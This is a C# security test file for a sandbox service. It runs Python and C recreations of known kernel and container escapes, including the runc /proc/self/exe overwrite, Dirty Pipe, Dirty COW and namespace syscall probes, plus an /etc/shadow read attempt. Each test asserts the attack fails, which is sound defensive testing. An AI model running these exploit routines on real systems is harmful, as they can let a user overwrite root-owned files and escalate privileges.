using System.Diagnostics;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using Microsoft.Win32.SafeHandles;
using SandboxApi.FunctionalTests.Fixtures;
using SandboxApi.SecurityTests.Fixtures;
using SandboxApi.SecurityTests.Matrix;

namespace SandboxApi.SecurityTests.Attacks;

/// <summary>Attacks by which containers and kernels were broken in the past, as their advisories tell them.</summary>
public sealed class KernelAdvisoryTests(Arena arena) : AttackTests(arena)
{
    private const string Victim = "/usr/bin/env";

    [Fact(Timeout = Long)]
    [Attack(70)]
    public async Task The_program_of_init_and_launcher_cannot_be_replaced()
    {
        // CVE-2019-5736: what enters the sandbox is made to run /proc/self/exe, which then is written.
        var result = await PythonAsync(PythonCalls.Program("""
            open("/tmp/script", "w").write("#!/proc/self/exe\n")
            os.chmod("/tmp/script", 0o755)
            attempt(lambda: os.system("/tmp/script < /dev/null > /dev/null 2>&1"))
            for path in ("/proc/self/exe", "/proc/1/exe", "/proc/2/exe", "/bin/bash"):
                for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
                    tell(path, attempt(lambda: os.open(path, flags)))
                fd = attempt(lambda: os.open(path, os.O_PATH))
                if not isinstance(fd, str):
                    tell(path, attempt(lambda: os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)))
            # The parents of every command end with init, which shows nothing of itself.
            tell(os.getppid(), attempt(lambda: os.readlink(f"/proc/{os.getppid()}/exe")))
            """));

        result.Stdout.Split('\n').ShouldAllBe(line => line.Contains(" E", StringComparison.Ordinal), result.Stdout + result.Stderr);

        // The launcher's program is in memory, where nobody can change it: not even its own user.
        var seen = 0;
        foreach (var pid in HostState.Descendants(Environment.ProcessId))
        {
            using var program = HostState.Unless(null, () => OpenIfInMemory($"/proc/{pid}/exe"));
            if (program is null)
                continue;
            seen++;
            // F_SEAL_SEAL, F_SEAL_SHRINK, F_SEAL_GROW, F_SEAL_WRITE.
            (FileControl(program, 1034, 0) & 0xF).ShouldBe(0xF);
            Should.Throw<IOException>(() => File.OpenHandle($"/proc/self/fd/{program.DangerousGetHandle()}", access: FileAccess.Write));
        }

        Assert.SkipWhen(seen == 0 && !TestHost.IsRoot, "an ordinary user cannot look at the launcher");
        seen.ShouldBePositive();
    }

    [Fact(Timeout = Long)]
    [Attack(70)]
    public async Task A_command_starts_at_home_whatever_directory_its_environment_names()
    {
        foreach (var directory in new[] { "/proc/self/fd/3", "/proc/self/fd/7/../..", "/proc/1/cwd", "/", "" })
        {
            var result = await RunAsync(new ExecutionConfig
            {
                Commands = ["-pwd -P; readlink /proc/self/cwd; ls /proc/self/fd/3/.. /proc/self/fd/7 /proc/self/fd/8/../../etc/shadow 2> /dev/null", "pwd -P"],
                Environ = new Dictionary<string, string> { ["PWD"] = directory, ["OLDPWD"] = directory, ["HOME"] = directory, ["CDPATH"] = directory },
            });

            result.Execution.Select(command => command.Stdout).ShouldBe(["/home/student\n/home/student", "/home/student"]);
        }
    }

    [Fact(Timeout = Long)]
    [Attack(71)]
    public async Task Dirty_pipe_changes_no_file_of_the_root()
    {
        var before = Fingerprint();

        // CVE-2022-0847: a pipe whose buffers were all full before takes a page of the file by splice, and a write then goes into that page.
        var result = await CAsync($$"""
            #define _GNU_SOURCE
            #include <fcntl.h>
            #include <stdio.h>
            #include <string.h>
            #include <sys/uio.h>
            #include <unistd.h>
            int main(void) {
                char page[4096], was[64], is[64];
                for (int round = 0; round < 50; round++) {
                    int file = open("{{Victim}}", O_RDONLY), ends[2];
                    pread(file, was, 64, 0);
                    pipe(ends);
                    int size = fcntl(ends[1], F_GETPIPE_SZ);
                    for (int n = size; n > 0; n -= 4096) write(ends[1], page, 4096);
                    for (int n = size; n > 0; n -= 4096) read(ends[0], page, 4096);
                    off64_t at = round % 32;
                    if (splice(file, &at, ends[1], NULL, 1, 0) != 1) { puts("no splice"); return 1; }
                    write(ends[1], "attack", 6);
                    // And the gift of one's own pages into the pipe, written afterwards.
                    vmsplice(ends[1], &(struct iovec){ page, 4096 }, 1, SPLICE_F_GIFT);
                    pread(file, is, 64, 0);
                    if (memcmp(was, is, 64)) { puts("changed"); return 1; }
                    close(file); close(ends[0]); close(ends[1]);
                }
                puts("unchanged");
            }
            """);

        result.Stdout.ShouldBe("unchanged", result.Stderr);
        Fingerprint().ShouldBe(before);
    }

    [Fact(Timeout = Long)]
    [Attack(71)]
    public async Task Dirty_cow_changes_no_file_of_the_root()
    {
        var before = Fingerprint();

        // CVE-2016-5195: a private page of a read-only mapping is written through /proc/self/mem while another thread throws it away; CVE-2022-2590 the same in shared memory.
        var result = await CAsync($$"""
            #define _GNU_SOURCE
            #include <fcntl.h>
            #include <pthread.h>
            #include <stdio.h>
            #include <string.h>
            #include <sys/mman.h>
            #include <unistd.h>
            static char *map;
            static volatile int end;
            static void *throw_away(void *x) { while (!end) madvise(map, 4096, MADV_DONTNEED); return x; }
            int main(void) {
                char was[64], is[64];
                int file = open("{{Victim}}", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
                pread(file, was, 64, 0);
                map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
                if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED) puts("shared writable mapping");
                pthread_t thread;
                pthread_create(&thread, NULL, throw_away, NULL);
                for (int i = 0; i < 20000; i++) pwrite(memory, "attack", 6, (off_t)map);
                end = 1;
                pthread_join(thread, NULL);
                pread(file, is, 64, 0);
                puts(memcmp(was, is, 64) ? "changed" : "unchanged");
            }
            """);

        result.Stdout.ShouldBe("unchanged", result.Stderr);
        Fingerprint().ShouldBe(before);
    }

    [Fact(Timeout = Long)]
    [Attack(72)]
    public async Task Paths_without_end_are_ended_by_the_limit_of_inodes()
    {
        // CVE-2021-33909 wants a path of a gigabyte, below which a mount is shown in /proc/self/mountinfo. The server then packs what is there.
        var watch = Stopwatch.StartNew();
        var result = await RunAsync(ExecutionConfig.Of(Feed("exec python3 -", PythonCalls.Program("""
            name, depth = "d" * 255, 0
            while True:
                answer = attempt(lambda: (os.mkdir(name), os.chdir(name)))
                if isinstance(answer, str):
                    break
                depth += 1
            tell(answer, depth * 256 < 1 << 24, depth > 100)
            tell(attempt(lambda: os.readlink("/proc/self/cwd")), len(open("/proc/self/mountinfo").read()) < 100000, attempt(lambda: open("x", "w")))
            tell(call(165, b"none", b".", b"tmpfs", 0, 0), call(272, 0x10000000))
            """))) with { Save = true, ResultPath = "f" });

        result.Execution[0].Stdout.ShouldBe("ENOSPC True True\nENAMETOOLONG True ENOSPC\nEPERM EPERM", result.Execution[0].Stderr);
        watch.Elapsed.ShouldBeLessThan(AtMost(60));
    }

    [Fact(Timeout = Long)]
    [Attack(73)]
    public async Task Kernel_code_that_namespaces_open_up_is_out_of_reach()
    {
        var result = await PythonAsync(PythonCalls.Program("""
            import socket
            # A user namespace is the key to all of them: by every call that makes one, from a thread, a child, and after dropping what one has.
            for name, number, arguments in [("unshare", 272, (0x10000000,)), ("with mounts", 272, (0x10020000,)), ("with network", 272, (0x50000000,)), ("clone", 56, (0x10000011, 0, 0, 0, 0)), ("clone3", 435, (ctypes.create_string_buffer(struct.pack("<Q80x", 0x10000000)), 88)), ("setns", 308, (os.open("/proc/self/ns/user", 0), 0x10000000))]:
                tell(name, call(number, *arguments))
            # CVE-2022-0185: a parameter longer than a page; CVE-2023-0386: an overlay with a setuid lower file; CVE-2022-0492: a cgroup with a release agent; CVE-2024-1086: nf_tables; CVE-2020-14386: packets.
            tell("fsopen", call(430, b"ext4", 0), "fsconfig", call(431, 3, 1, b"x", b"A" * 4095, 0))
            tell("overlay", call(165, b"overlay", b"/tmp", b"overlay", 0, b"lowerdir=/usr,upperdir=/tmp,workdir=/tmp"), "cgroup", call(165, b"none", b"/tmp", b"cgroup", 0, b"rdma"), "fuse", call(165, b"none", b"/tmp", b"fuse", 0, b"fd=0"))
            for protocol in (12, 4, 6, 9, 15, 16, 21):
                tell("netlink", call(41, 16, 3, protocol))
            tell("packet", call(41, 17, 3, 0x300), "vsock", call(41, 40, 1, 0), "tipc", call(41, 30, 5, 0), "rds", call(41, 21, 5, 0), "can", call(41, 29, 3, 1), "alg", call(41, 38, 5, 0), "key", call(41, 15, 3, 2), "bluetooth", call(41, 31, 3, 1), "xdp", call(41, 44, 3, 0), "smc", call(41, 43, 1, 0), "kcm", call(41, 41, 2, 0), "ax25", call(41, 3, 5, 0))
            tell("keyring", call(250, 1, b"x"), "bpf", call(321, 5, ctypes.create_string_buffer(128), 128), "userfaultfd", call(323, 1), "io_uring", call(425, 1, ctypes.create_string_buffer(120)), "perf", call(298, ctypes.create_string_buffer(struct.pack("<II120x", 1, 128)), 0, -1, -1, 0))
            """));

        var words = result.Stdout.Replace('\n', ' ').Split(' ');
        words.Count(word => word is "EPERM" or "ENOSYS" or "EAFNOSUPPORT").ShouldBe(6 + 2 + 3 + 7 + 12 + 5, result.Stdout + result.Stderr);
    }

    [Fact(Timeout = Long)]
    [Attack(75)]
    public async Task The_page_cache_tells_nothing()
    {
        // Of files that are not one's own, mincore tells that everything is there, and cachestat is no call at all.
        var result = await PythonAsync(PythonCalls.Program("""
            import mmap
            libc.mmap.restype = ctypes.c_void_p
            libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
            told, files = set(), 0
            for directory, _, names in os.walk("/usr/lib"):
                for name in names[:3]:
                    path = os.path.join(directory, name)
                    fd = attempt(lambda: os.open(path, os.O_RDONLY | os.O_NOFOLLOW))
                    if isinstance(fd, str):
                        continue
                    pages = os.fstat(fd).st_size // 4096
                    if 0 < pages < 4096:
                        page = libc.mmap(None, pages * 4096, 1, 1, fd, 0)
                        vector = ctypes.create_string_buffer(pages)
                        call(27, ctypes.c_void_p(page), pages * 4096, vector)
                        told |= set(vector.raw)
                        libc.munmap(ctypes.c_void_p(page), pages * 4096)
                    told.add(call(451, fd, ctypes.create_string_buffer(16), ctypes.create_string_buffer(40), 0))
                    os.close(fd)
                    files += 1
                # Enough to tell; each file of a machine that has just started is read from its disk first.
                if len(told) > 2 or files > 300:
                    break
            tell(*sorted(map(str, told)))
            """));

        result.Stdout.ShouldBe("1 ENOSYS", result.Stderr);
    }

    private static SafeFileHandle? OpenIfInMemory(string program) =>
        File.Exists(program) && new FileInfo(program).LinkTarget is { } target && target.Contains("memfd:", StringComparison.Ordinal) ? File.OpenHandle(program) : null;

    private static string Fingerprint() => Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(Victim)));

    [DllImport("libc", EntryPoint = "fcntl", SetLastError = true)]
    [DefaultDllImportSearchPaths(DllImportSearchPath.SafeDirectories)]
    private static extern int FileControl(SafeFileHandle file, int command, nint argument);
}
